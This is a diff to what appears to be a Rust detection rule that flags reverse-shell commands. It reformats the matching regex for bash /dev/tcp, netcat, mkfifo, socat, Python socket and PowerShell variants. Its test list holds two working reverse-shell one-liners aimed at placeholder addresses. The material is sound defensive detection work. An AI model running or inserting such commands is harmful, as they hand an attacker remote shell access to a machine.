@@ -25,15 +25,20 @@ pub(crate) const RULE: Rule = Rule {
             "fsockopen",
             "tcpclient",
         ],
-        pattern: concat!(
-            r"(?i)(?:bash|sh)\s+-i\s*[^\n]{0,20}/dev/(?:tcp|udp)/",
-            r"|\b(?:nc|ncat|netcat)\b[^\n]{0,40}\s-(?:e|c)\s+\S*sh\b",
-            r"|\bmkfifo\b[^\n]{0,120}\b(?:nc|ncat|telnet|openssl)\b",
-            r"|\bsocat\b[^\n]{0,80}exec:",
-            r"|socket[^\n]{0,200}(?:pty\.spawn|subprocess\.call|dup2)",
-            r"|exec\s+\d+<>/dev/tcp/",
-            r"|net\.sockets\.tcpclient",
-        ),
+        pattern: r"(?ix)
+            # a shell on a socket of bash
+            (?:bash|sh)\s+-i\s*[^\n]{0,20}/dev/(?:tcp|udp)/
+            # netcat
+          | \b(?:nc|ncat|netcat)\b[^\n]{0,40}\s-(?:e|c)\s+\S*sh\b
+            # a named pipe
+          | \bmkfifo\b[^\n]{0,120}\b(?:nc|ncat|telnet|openssl)\b
+          | \bsocat\b[^\n]{0,80}exec:
+            # Python
+          | socket[^\n]{0,200}(?:pty\.spawn|subprocess\.call|dup2)
+          | exec\s+\d+<>/dev/tcp/
+            # PowerShell
+          | net\.sockets\.tcpclient
+        ",
         keep: any,
     },
     hits: &["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 1.2.3.4 99"],
